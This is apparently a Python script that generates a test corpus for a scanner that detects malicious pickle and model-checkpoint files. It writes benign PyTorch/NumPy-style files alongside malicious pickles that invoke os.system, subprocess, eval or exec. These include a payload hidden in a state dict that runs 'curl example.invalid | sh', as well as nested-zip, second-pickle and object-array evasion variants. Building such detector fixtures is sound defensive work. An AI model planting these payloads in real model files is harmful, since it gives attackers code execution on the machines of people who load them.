"""Writes the scanner test corpus into the folder given as the only argument.

Malicious pickles are made by the standard pickler from objects whose __reduce__ names a dangerous callable, in every
protocol; benign ones are PyTorch- and NumPy-style state dicts pickled against stand-in `torch` / `numpy` modules
(registered in sys.modules) so the pickler writes exactly the globals real checkpoints contain, without torch installed.
Nothing here is ever unpickled.
"""
import collections
import io
import os
import pickle
import struct
import subprocess
import sys
import types
import zipfile
import builtins
import runpy
import webbrowser

out = sys.argv[1]
os.makedirs(out, exist_ok=True)


def module(name):
    m = types.ModuleType(name)
    sys.modules[name] = m
    parent, _, child = name.rpartition(".")
    if parent:
        setattr(sys.modules[parent], child, m)
    return m


def define(mod, name, obj=None):
    obj = obj if obj is not None else (lambda *a, **k: None)
    obj.__module__ = mod.__name__
    obj.__qualname__ = name
    obj.__name__ = name
    setattr(mod, name, obj)
    return obj


torch = module("torch")
torch_utils = module("torch._utils")
rebuild_tensor_v2 = define(torch_utils, "_rebuild_tensor_v2")
rebuild_parameter = define(torch_utils, "_rebuild_parameter")
storages = {n: define(torch, n, type(n, (), {})) for n in ("FloatStorage", "HalfStorage", "BFloat16Storage", "LongStorage", "ByteStorage")}
numpy = module("numpy")
numpy_core = module("numpy.core")
numpy_multiarray = module("numpy.core.multiarray")
reconstruct = define(numpy_multiarray, "_reconstruct")
ndarray = define(numpy, "ndarray", type("ndarray", (), {}))
dtype = define(numpy, "dtype", type("dtype", (), {}))


class Storage:
    def __init__(self, kind, key, numel):
        self.kind, self.key, self.numel = kind, key, numel


class Tensor:
    def __init__(self, storage, shape, parameter=False):
        self.storage, self.shape, self.parameter = storage, shape, parameter

    def __reduce__(self):
        stride = tuple(int(__import__("math").prod(self.shape[i + 1:])) for i in range(len(self.shape)))
        args = (self.storage, 0, tuple(self.shape), stride, False, collections.OrderedDict())
        if self.parameter:
            return (rebuild_parameter, ((rebuild_tensor_v2, args), True, collections.OrderedDict()))
        return (rebuild_tensor_v2, args)


class Wrapped:
    """A tensor nested as a reduce argument (rebuild_parameter takes the rebuilt tensor)."""


class Array:
    def __reduce__(self):
        return (reconstruct, (ndarray, (0,), b"b"), (1, (2, 2), "f4", False, b"\0" * 16))


class TorchPickler(pickle.Pickler):
    def persistent_id(self, obj):
        if isinstance(obj, Storage):
            return ("storage", storages[obj.kind], obj.key, "cpu", obj.numel)
        return None


def torch_pickle(obj):
    buffer = io.BytesIO()
    TorchPickler(buffer, protocol=2).dump(obj)
    return buffer.getvalue()


def torch_zip(name, obj, data_pkl=None, prefix="archive"):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr(f"{prefix}/data.pkl", data_pkl if data_pkl is not None else torch_pickle(obj))
        z.writestr(f"{prefix}/version", "3\n")
        z.writestr(f"{prefix}/data/0", b"\0" * 64)
        z.writestr(f"{prefix}/byteorder", "little")
    write(name, buffer.getvalue())


def write(name, data):
    with open(os.path.join(out, name), "wb") as f:
        f.write(data)


def tensor(kind="FloatStorage", key="0", shape=(2, 2), parameter=False):
    return Tensor(Storage(kind, key, 4), shape, parameter)


# ---- benign: PyTorch / NumPy style state dicts ----
state = collections.OrderedDict((f"encoder.layer.{i}.weight", tensor(key=str(i))) for i in range(4))
torch_zip("benign_state_dict.pt", state)
torch_zip("benign_state_dict_other_prefix.bin", state, prefix="pytorch_model")
write("benign_raw_state_dict.pkl", torch_pickle(state))
torch_zip("benign_half_bfloat16.pth", collections.OrderedDict(a=tensor("HalfStorage"), b=tensor("BFloat16Storage", "1")))
torch_zip("benign_parameters.ckpt", collections.OrderedDict(w=tensor(parameter=True), steps=tensor("LongStorage", "1", (1,))))
torch_zip("benign_optimizer.pt", {"state": {0: {"step": 10, "exp_avg": tensor(key="2")}}, "param_groups": [{"lr": 1e-3, "betas": (0.9, 0.999), "params": [0]}]})
torch_zip("benign_checkpoint.ckpt", {"epoch": 3, "global_step": 1200, "state_dict": state, "hyper_parameters": {"hidden": 384, "names": ["a", "b"]}, "flags": {True, False}})
write("benign_numpy_arrays.pkl", pickle.dumps({"embeddings": Array(), "labels": [1, 2, 3]}, protocol=2))
for proto in range(0, 6):
    write(f"benign_plain_protocol{proto}.pkl", pickle.dumps({"vocab": {"a": 1, "b": 2}, "sizes": (1, 2.5, None), "tags": ["x"] * 3, "blob": b"\x00\x01"}, protocol=proto))
# Legacy torch.save layout: magic number, protocol, sys info, the object, storage keys, then raw storage bytes.
legacy = io.BytesIO()
for part in (0x1950a86a20f9469cfc6c, 1001, {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}):
    pickle.dump(part, legacy, protocol=2)
TorchPickler(legacy, protocol=2).dump(state)
pickle.dump(["0", "1", "2", "3"], legacy, protocol=2)
legacy.write(struct.pack("<q", 4) + b"\0" * 16)
write("benign_legacy_format.bin", legacy.getvalue())


# ---- malicious ----
class Evil:
    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)


write("evil_os_system_protocol0.pkl", pickle.dumps(Evil(os.system, "echo pwned"), protocol=0))
write("evil_os_system_protocol2.bin", pickle.dumps(Evil(os.system, "echo pwned"), protocol=2))
write("evil_os_system_protocol4_stack_global.pt", pickle.dumps(Evil(os.system, "echo pwned"), protocol=4))
write("evil_os_system_protocol5.pkl", pickle.dumps(Evil(os.system, "echo pwned"), protocol=5))
write("evil_subprocess_popen_protocol3.pth", pickle.dumps(Evil(subprocess.Popen, ["sh", "-c", "id"]), protocol=3))
write("evil_subprocess_check_output_protocol4.ckpt", pickle.dumps(Evil(subprocess.check_output, ["id"]), protocol=4))
write("evil_builtins_eval_protocol2.pkl", pickle.dumps(Evil(builtins.eval, "__import__('os').system('id')"), protocol=2))
write("evil_builtins_exec_protocol4.pkl", pickle.dumps(Evil(builtins.exec, "import os; os.system('id')"), protocol=4))
write("evil_runpy_protocol1.pkl", pickle.dumps(Evil(runpy.run_path, "/tmp/x.py"), protocol=1))
write("evil_webbrowser_protocol2.pkl", pickle.dumps(Evil(webbrowser.open, "http://example.invalid"), protocol=2))
# Hidden inside an otherwise normal state dict.
state_with_payload = collections.OrderedDict(state)
state_with_payload["_metadata"] = Evil(os.system, "curl example.invalid | sh")
torch_zip("evil_state_dict_with_payload.pt", state_with_payload)
# A PyTorch zip whose data.pkl is an eval payload, under an unusual archive prefix.
torch_zip("evil_torch_zip_eval.bin", None, data_pkl=pickle.dumps(Evil(builtins.eval, "1+1"), protocol=2), prefix="model")
# A zip holding a PyTorch archive holding a payload (nested archives).
inner = io.BytesIO()
with zipfile.ZipFile(inner, "w") as z:
    z.writestr("archive/data.pkl", pickle.dumps(Evil(subprocess.call, ["id"]), protocol=4))
outer = io.BytesIO()
with zipfile.ZipFile(outer, "w") as z:
    z.writestr("weights/model.pt", inner.getvalue())
    z.writestr("README.txt", "nothing to see")
write("evil_nested_zip.zip", outer.getvalue())
# Legacy layout with the payload in a later pickle, after a clean one.
payload_legacy = io.BytesIO()
pickle.dump(0x1950a86a20f9469cfc6c, payload_legacy, protocol=2)
pickle.dump(Evil(os.system, "id"), payload_legacy, protocol=2)
write("evil_second_pickle.bin", payload_legacy.getvalue())
# NumPy object array whose pickle runs code.
npy_header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
npy_header += b" " * (64 - (10 + len(npy_header)) % 64) + b"\n"
write("evil_object_array.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", len(npy_header)) + npy_header + pickle.dumps([Evil(os.system, "id")], protocol=3))
print("ok")
